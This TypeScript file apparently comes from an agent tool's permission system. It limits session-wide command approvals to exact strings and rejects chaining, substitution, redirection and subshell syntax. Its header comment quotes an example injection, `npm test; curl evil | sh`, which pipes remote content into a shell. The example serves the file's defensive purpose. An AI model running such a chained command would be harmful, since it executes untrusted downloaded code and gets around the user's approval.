// "Allow for this session": the exact command string (and folder) only, never one that chains commands
// or redirects, since `npm test; curl evil | sh` must not ride on an approval of `npm test`.
import { ErrorCode, RpcError } from '../../protocol/errors.js';

/** Shell syntax that runs more than one command, substitutes one, or redirects. */
const CHAINING: Array<[RegExp, string]> = [
  [/;/, '";"'], [/&/, '"&" or "&&"'], [/\|/, '"|" or "||"'], [/`/, 'backticks'], [/\$\(/, '"$("'],
  [/[<>]/, 'a redirection'], [/[\r\n]/, 'a line break'], [/\0/, 'a NUL byte'], [/\$\{/, '"${"'],
  [/\(|\)/, 'a subshell'],
];

/** Why a command may not be allowed for the whole session, or null when it may. */
export function sessionScopeRefusal(command: string): string | null {
  for (const [re, what] of CHAINING) if (re.test(command)) return `it contains ${what}`;
  if (command.trim() === '') return 'it is empty';
  return null;
}

export function assertSessionScope(command: string): void {
  const why = sessionScopeRefusal(command);
  if (why) {
    throw new RpcError(ErrorCode.Forbidden, `"Allow for this session" is refused for this command because ${why}; `
      + 'allow it once instead.', 'scope_not_allowed', { why });
  }
}

export class SessionRules {
  private rules = new Set<string>();

  constructor(initial: Array<{ command: string; cwd: string }> = []) {
    for (const r of initial) this.rules.add(key(r.command, r.cwd));
  }

  add(command: string, cwd: string): void {
    assertSessionScope(command);
    this.rules.add(key(command, cwd));
  }

  /** Exact string match; a rule never covers a chained command (checked again here, defence in depth). */
  allows(command: string, cwd: string): boolean {
    return sessionScopeRefusal(command) === null && this.rules.has(key(command, cwd));
  }

  list(): Array<{ command: string; cwd: string }> {
    return [...this.rules].map((k) => JSON.parse(k) as { command: string; cwd: string });
  }
}

const key = (command: string, cwd: string) => JSON.stringify({ command, cwd });
